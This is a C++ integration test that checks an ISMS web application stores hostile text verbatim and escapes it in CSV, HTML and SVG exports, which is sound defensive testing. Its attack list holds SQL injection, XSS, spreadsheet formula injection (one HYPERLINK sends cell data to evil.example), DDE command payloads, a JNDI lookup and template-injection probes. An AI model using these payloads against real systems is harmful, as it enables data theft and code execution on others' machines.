// Hostile strings in the free-text fields users fill in every day — record fields, risk titles and plans,
// treatment actions, SoA justifications and notes, saved-view descriptions — over real HTTP on both backends.
// Each string must be stored verbatim, come back verbatim as JSON, never be interpreted (SQL, HTML, formulas,
// templates), never cause a 5xx, and be neutralised where it leaves the system in another language: CSV
// exports (spreadsheet formulas), the printable HTML treatment plan (markup) and SVG (markup).
#include "tests/integration/harness.hpp"

namespace isms::integration {
namespace {

const std::vector<std::string>& Attacks() {
    static const std::vector<std::string> kAttacks = {
        "Robert'); DROP TABLE records;--",
        "x' UNION SELECT password_hash FROM users --",
        "<script>alert('t')</script><img src=x onerror=alert(1)>",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "${jndi:ldap://evil.example/a} {{7*7}} <%= 7*7 %>",
        "line one\nline two\r\n\ttabbed \"quoted\" and 'single'",
        "Ünïcødé — 漢字 — 🙂 — \u202Eright-to-left override",
    };
    return kAttacks;
}

class HostileTextTest : public IntegrationTest {};

TEST_P(HostileTextTest, FreeTextIsStoredVerbatimAndNeverInterpreted) {
    Demo();
    auto& server = StartServer();
    auto http = server.NewClient();
    SignIn(http, "anna", "kvarnberg-isms-manager");  // the ISMS manager may edit records, risks and the SoA
    const auto& attacks = Attacks();
    std::vector<std::string> risk_ids;

    for (size_t i = 0; i < attacks.size(); ++i) {
        const std::string& a = attacks[i];
        SCOPED_TRACE("attack " + std::to_string(i));
        // A record (free text and markdown fields).
        auto rec = http.Post("/api/v1/records/context_issue",
                             {{"title", a}, {"description", a}, {"effect", a}, {"origin", "internal"},
                              {"category", "technological"}});
        ASSERT_EQ(rec.status, 201) << rec;
        const std::string rec_id = rec.Json()["id"];
        auto back = http.Get("/api/v1/records/context_issue/" + rec_id);
        ASSERT_EQ(back.status, 200) << back;
        EXPECT_EQ(back.Json()["data"]["title"], a);
        EXPECT_EQ(back.Json()["data"]["description"], a);
        // Searching for it finds it and nothing breaks.
        auto found = http.Get("/api/v1/records/context_issue?q=" + UrlEncode(a.substr(0, 12)));
        EXPECT_EQ(found.status, 200) << found;

        // A risk with a hostile title, description and treatment plan; an action with a hostile title.
        auto risk = http.Post("/api/v1/risks", {{"title", a},
                                                {"description", a},
                                                {"approach", "scenario"},
                                                {"scenario", a},
                                                {"owner", "PER-1"},
                                                {"cia", "C"},
                                                {"likelihood", 2},
                                                {"consequence", 2}});
        ASSERT_EQ(risk.status, 201) << risk;
        const std::string risk_id = risk.Json()["id"];
        risk_ids.push_back(risk_id);
        auto treat = http.Put("/api/v1/risks/" + risk_id + "/treatment",
                              {{"option", "modify"}, {"controls", {"8.5"}}, {"plan", a}});
        EXPECT_EQ(treat.status, 200) << treat;
        auto action = http.Post("/api/v1/risks/" + risk_id + "/actions",
                                {{"title", a}, {"owner", "PER-1"}, {"due_date", "2030-01-31"}});
        EXPECT_EQ(action.status, 201) << action;
        auto r = http.Get("/api/v1/risks/" + risk_id);
        ASSERT_EQ(r.status, 200) << r;
        EXPECT_EQ(r.Json()["title"], a);
        EXPECT_EQ(r.Json()["treatment"]["plan"], a);

        // A saved view's description.
        auto view = http.Post("/api/v1/views", {{"name", "hostile-" + std::to_string(i)},
                                                {"description", a},
                                                {"where", "theme = people"}});
        EXPECT_EQ(view.status, 201) << view;
        EXPECT_EQ(http.Get("/api/v1/views/hostile-" + std::to_string(i)).Json()["description"], a);
    }

    // SoA notes and justification.
    const std::string& html = attacks[2];
    const std::string& formula = attacks[3];
    auto soa = http.Patch("/api/v1/soa/controls/8.5", {{"notes", html}, {"inclusion_reason", formula}});
    ASSERT_EQ(soa.status, 200) << soa;
    EXPECT_EQ(soa.Json()["notes"], html);

    // Where text leaves the system in another language it is neutralised.
    auto csv = http.Get("/api/v1/records/context_issue/export?format=csv");
    ASSERT_EQ(csv.status, 200) << csv;
    EXPECT_EQ(csv.body.find("\n=HYPERLINK"), std::string::npos) << "a formula must not start a CSV cell";
    EXPECT_EQ(csv.body.find(",=HYPERLINK"), std::string::npos);
    EXPECT_EQ(csv.body.find(",+cmd"), std::string::npos);
    EXPECT_EQ(csv.body.find(",@SUM"), std::string::npos);
    auto soa_csv = http.Get("/api/v1/soa/export.csv");
    ASSERT_EQ(soa_csv.status, 200);
    EXPECT_EQ(soa_csv.body.find(",=HYPERLINK"), std::string::npos) << "SoA CSV";
    auto plan = http.Get("/api/v1/risk/treatment-plan.html");
    ASSERT_EQ(plan.status, 200) << plan;
    EXPECT_EQ(plan.body.find("<script>alert"), std::string::npos) << "the HTML report must escape markup";
    EXPECT_EQ(plan.body.find("<img src=x"), std::string::npos);
    EXPECT_NE(plan.body.find("&lt;script&gt;"), std::string::npos) << "the text is there, escaped";
    auto svg = http.Get("/api/v1/risk/heatmap.svg");
    ASSERT_EQ(svg.status, 200);
    EXPECT_EQ(svg.body.find("<script"), std::string::npos);

    // Nothing was interpreted: the tables are all there and the change log is whole.
    EXPECT_EQ(http.Get("/api/v1/users").status, 200);
    EXPECT_EQ(http.Get("/api/v1/records/person").Json()["items"].size() > 0, true);
    EXPECT_EQ(Isms({"log", "verify"}).exit_code, 0);
}

ISMS_INSTANTIATE_BACKENDS(HostileTextTest);

}  // namespace
}  // namespace isms::integration
